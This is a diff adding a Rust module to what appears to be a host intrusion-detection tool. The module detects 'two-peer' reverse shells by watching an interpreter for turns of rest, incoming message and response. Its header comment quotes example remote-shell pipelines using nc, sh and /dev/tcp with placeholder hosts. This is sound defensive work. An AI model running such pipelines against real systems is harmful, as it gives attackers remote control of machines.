@@ -1,0 +1,244 @@
+//! Shells that get their commands from one peer while their output goes to another one, or by
+//! another protocol: `nc -u A P | sh | nc B P`, `tail -f file | sh >/dev/tcp/B/P`.
+//!
+//! A job whose log goes to a collector looks the same for a moment (`curl … | sh | nc`). But its
+//! script comes as fast as it is read. So a shell is reported once it has taken *turns*:
+//!
+//! 1. It rests: it waits, has no child, and nothing passes either connection.
+//! 2. Then the peer sends something.
+//! 3. Then the shell starts a process, or something is sent to the other peer.
+//!
+//! Bytes of datagram sockets are not counted: there, the second step is not seen.
+
+use arrayvec::ArrayVec;
+use panoptes_decoders::kernel::sock::Counters;
+use panoptes_tables::HashKey;
+
+use super::graph::{Edges, Object};
+use super::pairs::{Pair, Pairs};
+use super::pending::Seen;
+use super::rows::counters_of;
+use super::search::Hop;
+use super::servers::Known;
+use super::shell::Shell;
+use super::turns::{has_started_after, newest_of};
+use super::{CANDIDATES_MAX, Candidate, Direction, Reason, Shells, ends_of};
+use crate::detect::Scene;
+use crate::state::State;
+use crate::time::{Monotonic, Now, RealTime};
+use crate::walk::{Index, Snapshot};
+
+/// Maximum number of pairs of shell and connection that are watched.
+const WATCHED_MAX: usize = 32;
+/// Number of turns after which a shell is reported.
+const TURNS: u32 = 3;
+/// The same if nothing was ever sent to a peer to which this machine connected. Clients ask.
+const TURNS_UNASKED: u32 = 2;
+/// For how long a shell rests before a turn. What comes in several pieces comes faster.
+const REST_NS: i64 = 300_000_000;
+/// For how long after a message the shell may do something.
+const TURN_NS: i64 = 1_000_000_000;
+/// A pair is forgotten when so many scans in a row have not shown it.
+const ABSENT_SCANS: u32 = 64;
+
+/// A shell and its two connections in one scan.
+#[derive(Clone, Copy, Debug)]
+struct Sight {
+    /// Number of bytes that the first peer has sent, if that is counted.
+    received: Option<u64>,
+    /// Number of bytes that were sent to it, and to the second peer.
+    asked: u64,
+    sent: u64,
+    /// When the newest process of the scan was started.
+    newest: u64,
+    /// Whether the shell works or has a child.
+    is_busy: bool,
+}
+
+#[derive(Clone, Copy, Debug)]
+struct Watched {
+    sight: Sight,
+    /// When the shell was last seen to do something, and its peers to get or send something.
+    rests_since: Monotonic,
+    /// When the message came that the shell has not answered yet.
+    message: Option<Monotonic>,
+    turns: u32,
+    /// When the first turn was complete.
+    since: RealTime,
+    scans: u32,
+}
+
+/// All pairs that are watched.
+#[derive(Debug)]
+pub(super) struct TwoPeers(Pairs<Watched>);
+
+impl TwoPeers {
+    pub(super) fn new(key: HashKey) -> Self {
+        Self(Pairs::new(WATCHED_MAX, key))
+    }
+
+    /// Forgets pairs that no recent scan has shown.
+    pub(super) fn begin_scan(&mut self, was_cut: bool) {
+        if was_cut {
+            self.0.see_all();
+        }
+        self.0.begin_scan(ABSENT_SCANS);
+    }
+
+    /// Takes note of a pair in this scan. Returns since when it is to be reported, if it is.
+    /// `has_started` tells whether the shell has started a process after another one.
+    fn observe(
+        &mut self,
+        (pair, group): (Pair, u64),
+        sight: Sight,
+        now: Now,
+        has_started: impl FnOnce(u64) -> bool,
+    ) -> Option<(u32, Seen)> {
+        let Some((watched, is_first)) = self.0.see(pair) else {
+            self.0.add(pair, group, Watched::new(sight, now));
+            return None;
+        };
+        if is_first {
+            watched.scans = watched.scans.saturating_add(1);
+            watched.observe(sight, now, has_started);
+        }
+        Some((watched.turns, Seen { since_ns: watched.since, scans: watched.scans }))
+    }
+}
+
+impl Watched {
+    fn new(sight: Sight, now: Now) -> Self {
+        let (rests_since, since) = (now.monotonic, now.real);
+        Self { sight, rests_since, message: None, turns: 0, since, scans: 1 }
+    }
+
+    fn observe(&mut self, sight: Sight, now: Now, has_started: impl FnOnce(u64) -> bool) {
+        let before = core::mem::replace(&mut self.sight, sight);
+        let has_heard = sight.received > before.received;
+        let has_asked = sight.asked > before.asked;
+        let has_acted = sight.sent > before.sent || has_started(before.newest);
+        let has_rested = now.monotonic.since(self.rests_since) >= REST_NS;
+        if has_asked {
+            self.message = None;
+        } else if has_rested && (has_heard || has_acted && sight.received.is_none()) {
+            self.message = Some(now.monotonic);
+        } else if has_rested && has_acted && self.message.is_none() {
+            // It does something by itself.
+            self.turns = 0;
+        }
+        if has_acted && let Some(message) = self.message.take() {
+            if now.monotonic.since(message) < TURN_NS {
+                self.since = if self.turns == 0 { now.real } else { self.since };
+                self.turns = self.turns.saturating_add(1);
+            }
+        }
+        if has_heard || has_asked || has_acted || sight.is_busy {
+            self.rests_since = now.monotonic;
+        }
+    }
+}
+
+impl Shells {
+    /// Watches an interpreter whose input comes from peers and whose output goes to others, along
+    /// these edges. The searches are those of [`Self::follow_over`].
+    pub(super) fn watch_two_peers(
+        &mut self,
+        scene: &mut Scene<'_>,
+        state: &State,
+        shell: &Shell<'_>,
+        edges: Edges,
+    ) {
+        let snapshot = shell.snapshot;
+        let Some(out) = self.other_peer(snapshot) else { return };
+        let mut ends = ArrayVec::<(Object, Option<Index<Hop>>), CANDIDATES_MAX>::new();
+        ends.extend(ends_of(&self.inward).take(CANDIDATES_MAX));
+        for (object, inward) in ends {
+            let direction = self.direction_of(snapshot, object);
+            let (out_object, outward) = out;
+            let candidate = Candidate::new(object, inward, direction);
+            let candidate = Candidate { out_object, outward, ..candidate };
+            let is_over_files = edges == Edges::WithFiles;
+            if is_over_files && !self.are_ways_of_two_used(shell, &candidate) {
+                continue;
+            }
+            self.watch_pair(scene, state, shell, candidate);
+        }
+    }
+
+    /// The nearest connection that output goes to and that this machine began.
+    pub(super) fn other_peer(&self, snapshot: &Snapshot) -> Option<(Object, Option<Index<Hop>>)> {
+        ends_of(&self.outward).find(|&(object, _)| match object {
+            Object::Connection(_) => self.direction_of(snapshot, object) == Direction::Outbound,
+            _ => true,
+        })
+    }
+
+    fn watch_pair(
+        &mut self,
+        scene: &mut Scene<'_>,
+        state: &State,
+        shell: &Shell<'_>,
+        mut candidate: Candidate,
+    ) {
+        let snapshot = shell.snapshot;
+        let Some(row) = snapshot.processes.at(shell.process) else { return };
+        let Some(pair) = self.pair(shell, candidate.object) else { return };
+        if self.reported.has(snapshot, candidate.object) {
+            return;
+        }
+        let counters = counters_of(snapshot, candidate.object);
+        let bytes_out = |counters: Option<Counters>| counters.map_or(0, |it| it.bytes_out);
+        let sight = Sight {
+            received: counters.map(|it| it.bytes_in),
+            asked: bytes_out(counters),
+            sent: bytes_out(counters_of(snapshot, candidate.out_object)),
+            newest: newest_of(snapshot),
+            is_busy: is_busy(shell),
+        };
+        let who = (pair, snapshot.group_of(row));
+        let has_started = |after| has_started_after(snapshot, row, after);
+        let turns = self.two_peers.observe(who, sight, scene.cx.now, has_started);
+        if let Some(process_id) = self.two_peers.0.take_refused() {
+            self.lost.add(1, Some(process_id));
+        }
+        let Some((turns, seen)) = turns else { return };
+        let is_unasked = counters.is_some()
+            && sight.asked == 0
+            && candidate.direction == Direction::Outbound
+            && !self.leads_over_files(&candidate);
+        if turns >= if is_unasked { TURNS_UNASKED } else { TURNS } {
+            (candidate.reason, candidate.seen) = (Some(Reason::TwoPeers), seen);
+            self.report_first(scene, state, shell, &[candidate], &candidate);
+        }
+    }
+
+    /// Watches an interpreter whose input comes over connections and whose output does not go back,
+    /// unless something exempts their peers.
+    pub(super) fn watch_one_foot(
+        &mut self,
+        scene: &mut Scene<'_>,
+        state: &State,
+        shell: &Shell<'_>,
+        edges: Edges,
+    ) {
+        if !self.is_fed_unasked(&Known { cx: scene.cx, state }, shell) {
+            return;
+        }
+        self.watch_two_peers(scene, state, shell, edges);
+        if edges == Edges::Usual {
+            self.watch_lines(scene, state, shell);
+        }
+    }
+}
+
+/// Whether a shell works or waits for a child.
+fn is_busy(shell: &Shell<'_>) -> bool {
+    let snapshot = shell.snapshot;
+    let Some(process) = snapshot.processes.at(shell.process) else { return true };
+    let works = snapshot.threads_of(process).any(|thread| thread.task.is_at_work());
+    let has_child = || {
+        let own = shell.process_id();
+        snapshot.processes.iter().any(|other| Some(other.parent_pid) == own)
+    };
+    works || has_child()
+}
